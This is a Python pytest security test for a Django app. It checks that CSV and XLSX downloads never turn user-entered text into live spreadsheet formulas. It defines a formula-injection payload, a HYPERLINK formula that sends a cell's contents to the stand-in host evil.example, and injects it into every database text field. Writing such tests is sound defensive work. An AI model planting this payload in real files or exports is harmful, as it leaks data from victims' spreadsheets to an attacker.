"""What somebody typed is never a formula in a spreadsheet that another person opens."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.test import Client

from dhr_qa.tests.security.filling import every_place
from dhr_qa.tests.security.rewriting import read_as
from dhr_qa.tests.world import World

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
BEGINS = tuple("=+-@\t\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def hostile(db, monkeypatch):
    """A world in which each free text that is read from the database is a formula."""
    world = World()
    read_as(monkeypatch, lambda text: f"{FORMULA} {text}")
    return world


def sheets(response):
    """Every table in what was sent, as (kind, bytes); a ZIP file is looked into."""
    data, kind = b"".join(response), response.headers.get("Content-Type", "").split(";")[0]
    if kind == "application/zip":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                kind = {"csv": "text/csv", "xlsx": XLSX}.get(name.rpartition(".")[2], "")
                yield kind, archive.read(name)
    else:
        yield kind, data


def cells(kind, data):
    """The texts of a table, with whether a program would reckon with them."""
    if kind == "text/csv":
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            yield from ((text, text.startswith(BEGINS)) for text in row)
    elif kind == XLSX:
        for sheet in openpyxl.load_workbook(io.BytesIO(data)):
            for row in sheet.iter_rows():
                yield from ((str(cell.value), cell.data_type == "f") for cell in row if cell.value)


def test_no_table_that_is_downloaded_holds_a_formula(hostile):
    client, reckoned, seen = Client(), [], {"text/csv": 0, XLSX: 0}
    client.force_login(hostile.alice)
    places = [*every_place(hostile), *[f"/reviews/{hostile.review.pk}/plan/export/xlsx/"]]

    for place in places:
        for kind, data in sheets(client.get(place)):
            for text, formula in cells(kind, data):
                seen[kind] += "HYPERLINK" in text
                if formula:
                    reckoned.append((place, text))

    assert reckoned == []
    assert all(seen.values()), seen
